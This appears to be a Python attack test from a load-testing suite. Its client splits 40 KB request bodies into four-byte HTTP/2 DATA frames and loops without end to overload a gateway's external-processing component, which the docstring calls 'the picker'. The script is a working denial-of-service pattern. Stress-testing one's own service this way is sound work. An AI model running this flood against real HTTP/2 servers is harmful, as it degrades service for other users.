"""A client whose body of 40 KB comes in DATA frames of four bytes: each is a message to the picker.

Envoy itself takes 1.8 µs a frame, in one piece, and the picker 0.7 µs, in turns; that is why there are no more of them
here: what the innocents feel would be Envoy's alone.
"""

import asyncio
import contextlib

from extproc.http2 import frames as http2
from tests.attack.http2_client import raw_client
from tests.attack.target import Target

BODY_BYTES = 40_000
PIECE = b"    "
PAUSE_SECONDS = 0.2


async def attack(target: Target) -> None:
    """Send one body after another, on a connection each."""
    target.begin()
    while True:
        async with raw_client(*target.gateway_address()) as client:
            stream, head = client.open(target.gateway, content_type=b"application/json")
            with contextlib.suppress(ConnectionError):
                await client.send(head + http2.frame(http2.DATA, 0, stream, PIECE) * (BODY_BYTES // len(PIECE)))
                await client.send(http2.frame(http2.DATA, http2.END_STREAM, stream, b"x"))
                await asyncio.sleep(PAUSE_SECONDS)
        target.done += 1
